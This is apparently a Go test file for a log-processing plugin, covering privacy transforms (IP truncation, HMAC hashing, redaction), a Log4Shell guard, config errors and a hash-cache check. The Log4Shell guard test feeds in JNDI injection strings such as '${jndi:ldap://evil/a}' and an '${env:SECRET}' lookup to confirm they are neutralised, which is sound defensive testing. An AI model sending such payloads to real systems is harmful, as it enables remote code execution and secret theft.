package fields

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/redpanda-data/benthos/v4/public/service"

	"github.com/esa-connect/esa-connect/config"
	"github.com/esa-connect/esa-connect/plugins/pipeline/pipelinetest"
)

const hashKey = "0123456789abcdef-test-key"

func hmacHex(v string) string {
	m := hmac.New(sha256.New, []byte(hashKey))
	m.Write([]byte(v))
	return hex.EncodeToString(m.Sum(nil))
}

func transformOne(t *testing.T, c Config, rec string) map[string]any {
	t.Helper()
	p, err := New(c, nil)
	if err != nil {
		t.Fatal(err)
	}
	out, _, _, err := p.Transform(nil, []byte(rec))
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(out, &m); err != nil {
		t.Fatalf("output %s is not JSON: %v", out, err)
	}
	return m
}

// The worked examples of the privacy transforms (README "Privacy transforms").
func TestPrivacyTransforms(t *testing.T) {
	c := Config{Category: "access", Fields: []string{"ClientIP", "ClientRequestUserAgent", "ClientRequestPath", "ClientRequestHost"},
		Transforms: []Transform{
			{Field: "ClientIP", Kind: TransformTruncateIP},
			{Field: "ClientRequestUserAgent", Kind: TransformHash, Key: hashKey},
			{Field: "ClientRequestPath", Kind: TransformRedact, With: "[path]"},
			{Field: "ClientRequestHost", Kind: TransformHash, Key: hashKey, Encoding: "base64url"},
		}}
	cases := []struct {
		rec  string
		want map[string]any
	}{
		{`{"ClientIP":"192.0.2.77","ClientRequestUserAgent":"curl/8.0","ClientRequestPath":"/login","ClientRequestHost":"example.com"}`,
			map[string]any{"ClientIP": "192.0.2.0", "ClientRequestUserAgent": hmacHex("curl/8.0"), "ClientRequestPath": "[path]"}},
		// An escaped string is hashed as the text it stands for.
		{`{"ClientIP":"2001:db8:1234:5678::9","ClientRequestUserAgent":"caf\u00e9 \"x\"","ClientRequestPath":"/","ClientRequestHost":"a"}`,
			map[string]any{"ClientIP": "2001:db8:1234::", "ClientRequestUserAgent": hmacHex(`café "x"`)}},
		{`{"ClientIP":"::ffff:198.51.100.9","ClientRequestUserAgent":"-"}`,
			map[string]any{"ClientIP": "198.51.100.0", "ClientRequestUserAgent": "-", "ClientRequestPath": "-"}},
		{`{"ClientIP":"unknown","ClientRequestPath":null}`,
			map[string]any{"ClientIP": "-", "ClientRequestUserAgent": "-", "ClientRequestPath": "-"}},
	}
	for _, tc := range cases {
		got := transformOne(t, c, tc.rec)
		for k, want := range tc.want {
			if got[k] != want {
				t.Errorf("%s: %s = %v, want %v", tc.rec, k, got[k], want)
			}
		}
	}
	m := hmac.New(sha256.New, []byte(hashKey))
	m.Write([]byte("example.com"))
	got := transformOne(t, c, cases[0].rec)
	if want := base64.RawURLEncoding.EncodeToString(m.Sum(nil)); got["ClientRequestHost"] != want {
		t.Errorf("base64url hash %v, want %s", got["ClientRequestHost"], want)
	}
	// Prefixes other than the defaults.
	c2 := Config{Category: "access", Fields: []string{"ClientIP"}, Transforms: []Transform{{Field: "ClientIP", Kind: TransformTruncateIP, IPv4Prefix: 16, IPv6Prefix: 32}}}
	if got := transformOne(t, c2, `{"ClientIP":"192.0.2.77"}`); got["ClientIP"] != "192.0.0.0" {
		t.Errorf("/16: %v", got["ClientIP"])
	}
	if got := transformOne(t, c2, `{"ClientIP":"2001:db8:1234::1"}`); got["ClientIP"] != "2001:db8::" {
		t.Errorf("/32: %v", got["ClientIP"])
	}
}

func TestLog4ShellGuard(t *testing.T) {
	c := Config{Category: "access", Fields: []string{"ClientRequestUserAgent", "ClientRequestPath"}, Log4ShellGuard: true}
	for rec, want := range map[string][2]string{
		`{"ClientRequestUserAgent":"${jndi:ldap://evil/a}","ClientRequestPath":"/${x}${y}"}`: {"x{jndi:ldap://evil/a}", "/x{x}x{y}"},
		`{"ClientRequestUserAgent":"\u0024{jndi:x}","ClientRequestPath":"$\u007bx}"}`:        {"x{jndi:x}", "x{x}"},
		`{"ClientRequestUserAgent":"a\\u0024{b","ClientRequestPath":"$ {"}`:                  {`a\u0024{b`, "$ {"},
		`{"ClientRequestUserAgent":"\"${\"","ClientRequestPath":"\u00e9"}`:                   {`"x{"`, "é"},
	} {
		got := transformOne(t, c, rec)
		if got["ClientRequestUserAgent"] != want[0] || got["ClientRequestPath"] != want[1] {
			t.Errorf("%s → %v, want %q", rec, got, want)
		}
	}
	// Custom header values are guarded too.
	c = Config{Category: "access", Fields: []string{"ClientRequestID"}, Log4ShellGuard: true}
	c.CustomFields = &config.CustomFields{RequestHeaders: []string{"x-api"}}
	got := transformOne(t, c, `{"ClientRequestID":"1","RequestHeaders":{"X-Api":"${env:SECRET}"}}`)
	if cf, _ := json.Marshal(got["CustomFields"]); !strings.Contains(string(cf), "x{env:SECRET}") || strings.Contains(string(cf), "${") {
		t.Errorf("custom field not guarded: %s", cf)
	}
}

func TestTransformProblems(t *testing.T) {
	_, err := New(Config{Category: "access", Fields: []string{"ClientIP", "EdgeResponseStatusCode"}, Transforms: []Transform{
		{Field: "ClientIP", Kind: TransformHash, Key: "short"},
		{Field: "EdgeResponseStatusCode", Kind: TransformRedact},
		{Field: "ClientRequestHost", Kind: TransformRedact},
		{Field: "ClientIP", Kind: TransformTruncateIP, IPv4Prefix: 40},
	}}, nil)
	if err == nil {
		t.Fatal("no error")
	}
	for _, want := range []string{"transforms[0].hash.key", "transforms[1].field", "int field", "transforms[2].field", "transforms[3].truncate_ip"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error does not mention %q: %v", want, err)
		}
	}
}

// BenchmarkPrivacy compares esa_fields (20 fields, unchecked records) without transforms and with
// three (truncate_ip, hash, redact) plus log4shell_guard; records/s is per core.
func BenchmarkPrivacy(b *testing.B) {
	for _, tc := range []struct {
		name string
		c    Config
	}{
		{"none", Config{Category: "access", Fields: fields20}},
		{"three+guard", Config{Category: "access", Fields: fields20, Log4ShellGuard: true, Transforms: []Transform{
			{Field: "ClientIP", Kind: TransformTruncateIP},
			{Field: "ClientRequestUserAgent", Kind: TransformHash, Key: hashKey},
			{Field: "ClientRequestPath", Kind: TransformRedact, With: "-"},
		}}},
	} {
		b.Run(tc.name, func(b *testing.B) {
			recs := pipelinetest.AccessRecords(b, 1000)
			p, err := New(tc.c, nil)
			if err != nil {
				b.Fatal(err)
			}
			benchProcess(b, p, pipelinetest.Batch(recs), recs)
		})
	}
}

// The digest cache never returns another value's digest: 5,000 distinct values (slots collide) and
// repeats, each checked against HMAC-SHA256 computed here.
func TestHashCacheIsExact(t *testing.T) {
	p, err := New(Config{Category: "access", Fields: []string{"ClientRequestUserAgent"},
		Transforms: []Transform{{Field: "ClientRequestUserAgent", Kind: TransformHash, Key: hashKey}}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for round := range 2 {
		for start := 0; start < 5000; start += 500 {
			var batch service.MessageBatch
			var uas []string
			for i := start; i < start+500; i++ {
				ua := fmt.Sprintf("agent-%d", i*7919%5000)
				if i%3 == 0 {
					ua = strings.Repeat("x", 300) + ua // longer than the cached values
				}
				uas = append(uas, ua)
				batch = append(batch, service.NewMessage([]byte(`{"ClientRequestUserAgent":"`+ua+`"}`)))
			}
			out, err := p.ProcessBatch(context.Background(), batch)
			if err != nil || len(out) != 1 || len(out[0]) != 500 {
				t.Fatalf("%v %v", out, err)
			}
			for i, m := range out[0] {
				got, _ := m.AsBytes()
				if want := `{"ClientRequestUserAgent":"` + hmacHex(uas[i]) + `"}`; string(got) != want {
					t.Fatalf("round %d, value %s: %s", round, uas[i], got)
				}
			}
		}
	}
}
